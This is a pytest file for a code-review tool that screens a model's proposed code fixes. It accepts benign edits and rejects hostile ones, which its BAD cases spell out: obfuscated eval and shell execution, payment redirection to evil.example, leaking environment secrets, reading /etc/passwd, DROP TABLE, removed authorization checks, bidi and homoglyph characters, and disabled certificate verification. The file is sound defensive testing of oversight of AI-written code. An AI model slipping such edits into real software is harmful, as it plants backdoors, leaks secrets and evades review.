"""What of a model's changes may be offered, and what is shown as text alone."""

from __future__ import annotations

from dataclasses import dataclass

import pytest
from fuzz import bundled_rules
from oldhand.findings import Accepted, Applicability, Confidence, Finding, Fix, Rejected, Severity
from oldhand.review.capabilities import capabilities
from oldhand.review.document import Document
from oldhand.review.model_verdict import judged_proposal
from oldhand.review.proposals import fix_of
from oldhand.rules.rule import RuleSet
from oldhand.text.edits import TextEdit, apply
from oldhand.text.ranges import TextRange
from test_proposals import analysis_of

PYTHON = """\
import os
import requests
from flask import abort, request
from app.auth import login_required


@app.post("/pay")
@login_required
def pay(user, cart):
    if not user.may_pay:
        abort(403)
    assert cart.open
    validate(cart)
    total = sum(item.price for item in cart)
    requests.post("https://bank.example/pay", json={"sum": total}, timeout=5)
    return total


def other():
    return os.getpid()
"""
JS = """\
const db = require("./db");

app.post("/pay", requireAuth, async (req, res) => {
  if (!req.user) {
    return res.status(401).end();
  }
  const row = await db.get(req.body.id);
  res.json(row);
});
"""
GO = """\
package shop

import (
\t"net/http"
)

func Pay(w http.ResponseWriter, r *http.Request) {
\tif !allowed(r) {
\t\thttp.Error(w, "no", http.StatusForbidden)
\t\treturn
\t}
\trow := db.Find(r.Context())
\twrite(w, row)
}
"""
JAVA = """\
package shop;

class Shop {
    @PreAuthorize("hasRole('USER')")
    int pay(Cart cart) {
        if (cart == null) {
            throw new IllegalArgumentException();
        }
        return cart.total();
    }
}
"""
SQL = "ALTER TABLE users ADD COLUMN age int NOT NULL;\n"

TEXTS = {"python": PYTHON, "javascript": JS, "typescript": JS, "go": GO, "java": JAVA, "sql": SQL}
TOTAL = "total = sum(item.price for item in cart)"
ROW = "const row = await db.get(req.body.id);"
FIND = "row := db.Find(r.Context())"
PAYS = "return cart.total();"


@dataclass(frozen=True)
class Case:
    says: str
    old: str
    new: str
    reason: str = ""  # "" where it may be offered
    language: str = "python"
    imports: tuple[str, ...] = ()


GOOD = [
    Case("another computation", TOTAL, "total = sum(item.price * item.count for item in cart)"),
    Case("a check more", TOTAL, f"if not cart:\n    abort(400)\n{TOTAL}"),
    Case("a longer timeout", 'requests.post("https://bank.example/pay", json={"sum": total}, timeout=5)', 'requests.post("https://bank.example/pay", json={"sum": total}, timeout=(3, 10))'),
    Case("what a request answered is looked at", 'requests.post("https://bank.example/pay", json={"sum": total}, timeout=5)', 'requests.post("https://bank.example/pay", json={"sum": total}, timeout=5).raise_for_status()'),
    Case("errors of a client are caught", TOTAL, f"try:\n    {TOTAL}\nexcept requests.Timeout:\n    raise Unpaid from None"),
    Case("a condition more in a check", "if not user.may_pay:", "if not user.may_pay or user.is_blocked:"),
    Case("an import that it needs", TOTAL, "total = sum((item.price for item in cart), Decimal(0))", imports=("from decimal import Decimal",)),
    Case("a local name like a module's", TOTAL, f"code = request.args['code']\n{TOTAL}"),
    Case("an emoji as people write it", TOTAL, f"{TOTAL}  # paid \N{HEAVY CHECK MARK}\ufe0f"),
    Case("JavaScript", ROW, "const row = await db.get(Number(req.body.id));", language="javascript"),
    Case("JavaScript, a check more", ROW, f"if (!req.body.id) {{\n  return res.status(400).end();\n}}\n{ROW}", language="javascript"),
    Case("TypeScript", ROW, "const row: Row = await db.get(Number(req.body.id));", language="typescript"),
    Case("Go", FIND, "row, err := db.Find(r.Context())\nif err != nil {\n\thttp.Error(w, err.Error(), http.StatusInternalServerError)\n\treturn\n}", language="go"),
    Case("Java", PAYS, "return Math.max(0, cart.total());", language="java"),
    Case("SQL", "ALTER TABLE users ADD COLUMN age int NOT NULL;", "ALTER TABLE users ADD COLUMN age int NOT NULL DEFAULT 0;", language="sql"),
]  # fmt: skip

BAD = [
    # new capabilities
    Case("a program", TOTAL, f"subprocess.run(['id'])\n{TOTAL}", "run a program (subprocess.run)", imports=("import subprocess",)),
    Case("a program by another name", TOTAL, f"from os import system as price_of\nprice_of('id')\n{TOTAL}", "run a program (os.system)"),
    Case("a function that is only handed on", TOTAL, f"list(map(os.system, cart))\n{TOTAL}", "run a program (os.system)"),
    Case("a program by getattr", TOTAL, f"getattr(os, 'system')('id')\n{TOTAL}", "run a program (os.system)"),
    Case("getattr of what is made at run time", TOTAL, f"getattr(os, 'sys' + 'tem')('id')\n{TOTAL}", "look up code by a name"),
    Case("everything of a module", TOTAL, f"from os import *\n{TOTAL}", "import everything (os.*)"),
    Case("eval", TOTAL, "total = eval(request.data)", "as code (eval)"),
    Case("eval by another name", TOTAL, f"compute = eval\n{TOTAL}", "as code (eval)"),
    Case("eval by the built-ins", TOTAL, f"__builtins__['eval'](request.data)\n{TOTAL}", "as code"),
    Case("eval by globals", TOTAL, f"globals()['ev' + 'al'](request.data)\n{TOTAL}", "name that is made at run time (globals)"),
    Case("a dynamic import", TOTAL, f"__import__('o' + 's').remove('x')\n{TOTAL}", "at run time (__import__)"),
    Case("data as code", TOTAL, "total = pickle.loads(request.data)", "as code (pickle.loads)", imports=("import pickle",)),
    Case("the network", TOTAL, f"requests.get(request.args['next'])\n{TOTAL}", "reach the network (requests.get)"),
    Case("another host", '    requests.post("https://bank.example/pay", json={"sum": total}, timeout=5)', '    requests.post("https://evil.example/pay", json={"sum": total}, timeout=5)', "another host (evil.example)"),
    Case("the environment", TOTAL, f"log(os.environ)\n{TOTAL}", "the environment or a secret (os.environ)"),
    Case("a secret of the settings", TOTAL, f"log(settings.JWT_SECRET_KEY)\n{TOTAL}", "a secret (settings.JWT_SECRET_KEY)"),
    Case("a file", TOTAL, f"open('/etc/passwd').read()\n{TOTAL}", "open or change files (open)"),
    Case("a file removed", TOTAL, f"os.remove(cart.path)\n{TOTAL}", "files (os.remove)"),
    Case("JavaScript, a program", ROW, f'require("child_process").execSync(req.body.id);\n{ROW}', "run a program (child_process", "javascript"),
    Case("JavaScript, a module made at run time", ROW, f'require("child_" + "process");\n{ROW}', "at run time (require[])", "javascript"),
    Case("JavaScript, an import made at run time", ROW, f"await import(req.body.id);\n{ROW}", "at run time (import[])", "javascript"),
    Case("JavaScript, a function made of text", ROW, f"new Function(req.body.id)();\n{ROW}", "as code (Function)", "javascript"),
    Case("JavaScript, by the constructor", ROW, f"[].map.constructor.constructor(req.body.id)();\n{ROW}", "as code", "javascript"),
    Case("JavaScript, a global by a key", ROW, f"globalThis[req.body.id]();\n{ROW}", "at run time (globalThis[])", "javascript"),
    Case("JavaScript, the network", ROW, f"fetch(req.body.url);\n{ROW}", "the network (fetch)", "javascript"),
    Case("JavaScript, the environment", ROW, f"res.json(process.env);\n{ROW}", "environment or a secret (process.env)", "javascript"),
    Case("TypeScript, a file", ROW, f'const fs = await import("fs");\n{ROW}', "files (fs", "typescript"),
    Case("Go, a program", FIND, f'exec.Command("id").Run()\n{FIND}', "run a program (os/exec", "go", ('import "os/exec"',)),
    Case("Go, the network", FIND, f'http.Get("http://" + r.Host)\n{FIND}', "the network (net/http.Get)", "go"),
    Case("Go, the environment", FIND, f'w.Write(os.Getenv("X"))\n{FIND}', "(os.Getenv)", "go", ('import "os"',)),
    Case("Java, a program", PAYS, f'Runtime.getRuntime().exec("id");\n{PAYS}', "run a program", "java"),
    Case("Java, a program builder", PAYS, f'new ProcessBuilder("id").start();\n{PAYS}', "run a program (ProcessBuilder)", "java"),
    Case("Java, a class by its name", PAYS, f"Class.forName(cart.name());\n{PAYS}", "(Class.forName)", "java"),
    Case("SQL, a table dropped", "ALTER TABLE users ADD COLUMN age int NOT NULL;", "DROP TABLE users;", "run DROP TABLE in the database", "sql"),
    Case("SQL, rights", "ALTER TABLE users ADD COLUMN age int NOT NULL;", "ALTER TABLE users ADD COLUMN age int NOT NULL; GRANT ALL ON users TO PUBLIC;", "run GRANT ALL", "sql"),
    Case("SQL, a program", "ALTER TABLE users ADD COLUMN age int NOT NULL;", "ALTER TABLE users ADD COLUMN age int NOT NULL; COPY t FROM PROGRAM 'id';", "in the database", "sql"),
    Case("SQL, a constraint", "ALTER TABLE users ADD COLUMN age int NOT NULL;", "ALTER TABLE users ADD COLUMN age int;", "take out a condition (NOT NULL)", "sql"),
    Case("SQL in a string", TOTAL, f'db.run("DELETE  FROM users")\n{TOTAL}', "run DELETE  FROM in the database"),
    # checks taken out
    Case("a check", "    if not user.may_pay:\n        abort(403)", "    cart.lines()", 'take out the check "not user.may_pay"'),
    Case("a check that never holds", "if not user.may_pay:", "if False:", "take out the check"),
    Case("a check that never holds, in a longer one", "if not user.may_pay:", "if not user.may_pay and False:", "switch off a check"),
    Case("an assert", "assert cart.open", "cart.touch()", 'the check "cart.open"'),
    Case("a decorator", "@login_required", "@cached", "take out @login_required"),
    Case("a validation", "validate(cart)", "cart.touch()", "take out a check (validate)"),
    Case("a return in front of the checks", "if not user.may_pay:", "return 0\nif not user.may_pay:", "code that never runs"),
    Case("JavaScript, a check", "  if (!req.user) {\n    return res.status(401).end();\n  }", "  log(req);", "take out the check", "javascript"),
    Case("JavaScript, a middleware", 'app.post("/pay", requireAuth, async (req, res) => {', 'app.post("/pay", async (req, res) => {', "take out a check (requireAuth)", "javascript"),
    Case("Go, a check", '\tif !allowed(r) {\n\t\thttp.Error(w, "no", http.StatusForbidden)\n\t\treturn\n\t}', "\tlog(r)", "take out", "go"),
    Case("Java, a permission", "@PreAuthorize(\"hasRole('USER')\")", "@Override", "take out @PreAuthorize", "java"),
    Case("Java, a check", "        if (cart == null) {\n            throw new IllegalArgumentException();\n        }", "        log(cart);", "take out the check", "java"),
    # protections turned off
    Case("certificates", "timeout=5)", "", ""),
    Case("a warning silenced", TOTAL, f"{TOTAL}  # nosec", "silence another check (nosec)"),
    Case("our own warning silenced", TOTAL, f"{TOTAL}  # oldhand: ignore", "silence another check"),
    # what no text may bring in
    Case("a control of direction", TOTAL, f"{TOTAL}  # \u202e", "RIGHT-TO-LEFT OVERRIDE"),
    Case("an invisible character", TOTAL, f"{TOTAL}  # a\u200bb", "ZERO WIDTH SPACE"),
    Case("tag characters", TOTAL, f"{TOTAL}  # \U000e0041\U000e0042", "does not show"),
    Case("a terminal's escape", TOTAL, f"{TOTAL}  # \x1b[2J", "does not show"),
    Case("a look-alike in a name", TOTAL, "tot\u0430l = sum(item.price for item in cart)", "looks like another"),
    Case("a name of look-alikes", TOTAL, f"\u0441\u043e\u0440\u0443 = cart\n{TOTAL}", "looks like another"),
    Case("a placeholder", TOTAL, f'key = "__SECRET_1__"\n{TOTAL}', "a placeholder"),
    Case("an elision", TOTAL, "# ... the rest as before ...", "leaves out code"),
    Case("no code", TOTAL, "total = = 1", "does not parse"),
]  # fmt: skip
BAD = [case for case in BAD if case.new]


def finding_at(place: TextRange) -> Finding:
    return Finding("claude/errors", place, Severity.WARNING, "m", "", "", "claude", Confidence.MEDIUM, "0")


def verdict(case: Case, rules: RuleSet | None = None) -> Accepted | Rejected:
    text = TEXTS[case.language]
    lines = case.old.strip().splitlines()
    at = text.index(lines[0].strip())
    place = TextRange(at, at + len(lines[0].strip()))
    known = rules or RuleSet(())
    before = analysis_of(text, case.language, known)
    document = Document.open("file:///app", 1, case.language, text)
    fix = fix_of(document, before, place, case.old, case.new, "Do it", case.imports)
    if isinstance(fix, Rejected):
        return fix
    after = analysis_of(apply(text, fix.edits), case.language, known)
    return judged_proposal(finding_at(place), fix, before, after)


@pytest.mark.parametrize("case", GOOD, ids=lambda case: case.says)
def test_what_may_be_offered(case: Case) -> None:
    assert verdict(case) == Accepted(Applicability.SUGGESTED)


@pytest.mark.parametrize("case", BAD, ids=lambda case: case.says)
def test_what_is_shown_as_text(case: Case) -> None:
    found = verdict(case)
    assert isinstance(found, Rejected)
    assert case.reason in found.reason


def judged_text(old: str, new: str, language: str = "python") -> Accepted | Rejected:
    """The verdict on a change of the first occurrence, however small."""
    text = TEXTS[language]
    at = text.index(old)
    place = TextRange(at, at + len(old))
    fix = Fix("Do it", (TextEdit(place, new),), Applicability.SUGGESTED)
    after = analysis_of(apply(text, fix.edits), language)
    return judged_proposal(finding_at(place), fix, analysis_of(text, language), after)


@pytest.mark.parametrize(
    ("new", "reason"),
    [
        ("timeout=5, verify=False", "verification of certificates (verify=False)"),
        ("timeout=5, ssl=False", "verification of certificates"),
        ("timeout=5, shell=True", "the shell's quoting"),
        ("timeout=5, autoescape=False", "escaping"),
        ("timeout=5, secure=False", "a cookie's protection"),
        ("timeout=5, debug=True", "running service"),
        ("timeout=5, permission_classes=[]", "access control"),
        ('timeout=5, algorithms=["none"]', "verification of signatures"),
    ],
)
def test_protections_stay_on(new: str, reason: str) -> None:
    found = judged_text("timeout=5", new)
    assert isinstance(found, Rejected)
    assert reason in found.reason


def test_edits_do_not_escape() -> None:
    before = analysis_of(PYTHON)
    place = TextRange(PYTHON.index("total = sum"), PYTHON.index("total = sum") + 5)
    inside = TextEdit(place, "result")
    for away in (PYTHON.index("os.getpid"), PYTHON.index("import os")):
        edit = TextEdit(TextRange(away, away + 2), "no")
        text = apply(PYTHON, (inside, edit))
        found = judged_proposal(
            finding_at(place), Fix("t", (inside, edit), Applicability.SAFE), before, analysis_of(text)
        )
        assert found == Rejected("The change goes beyond the function that it is for.")
        text = apply(PYTHON, (edit,))
        found = judged_proposal(finding_at(place), Fix("t", (edit,), Applicability.SAFE), before, analysis_of(text))
        assert found == Rejected("The change leaves the code that it is about as it is.")
    beyond = Fix("t", (TextEdit(TextRange(len(PYTHON) + 1, len(PYTHON) + 2), "x"),), Applicability.SAFE)
    assert judged_proposal(finding_at(place), beyond, before, before) == Rejected(
        "The change goes beyond the document."
    )
    twice = Fix("t", (inside, inside), Applicability.SAFE)
    assert judged_proposal(finding_at(place), twice, before, before) == Rejected("The change contradicts itself.")


def test_what_the_rules_report_is_not_offered() -> None:
    case = Case(
        "a query built from a value",
        TOTAL,
        f"cursor.execute(f\"SELECT id FROM users WHERE name = '{{request.args['n']}}'\")\n{TOTAL}",
    )
    found = verdict(case, bundled_rules())
    assert isinstance(found, Rejected)
    assert "injection/sql" in found.reason


def test_many_lines_are_not_deleted_in_passing() -> None:
    body = "".join(f"    a{n} = {n}\n" for n in range(20))
    text = f"def f():\n{body}    return a1\n"
    start = text.index("    a5")
    edit = TextEdit(TextRange(start, text.index("    return")), "")
    fix = Fix("t", (edit,), Applicability.SUGGESTED)
    found = judged_proposal(
        finding_at(TextRange(start + 4, start + 6)), fix, analysis_of(text), analysis_of(apply(text, (edit,)))
    )
    assert found == Rejected("The change would delete 15 lines, so it is shown only as text.")


@pytest.mark.parametrize(
    ("old", "new", "adds"),
    [
        (TOTAL, "total = 1", ()),
        (TOTAL, "import subprocess\n    total = subprocess.run([])", ("programs",)),
        (TOTAL, "import httpx\n    total = httpx.get(cart.url)", ("network",)),
        ("import os\n", "import os\nimport stripe\n", ("a new dependency",)),
        ("import os\n", "import os\nimport json\n", ()),
    ],
)
def test_what_a_change_adds(old: str, new: str, adds: tuple[str, ...]) -> None:
    found = capabilities(analysis_of(PYTHON), analysis_of(PYTHON.replace(old, new, 1)))
    assert found == adds
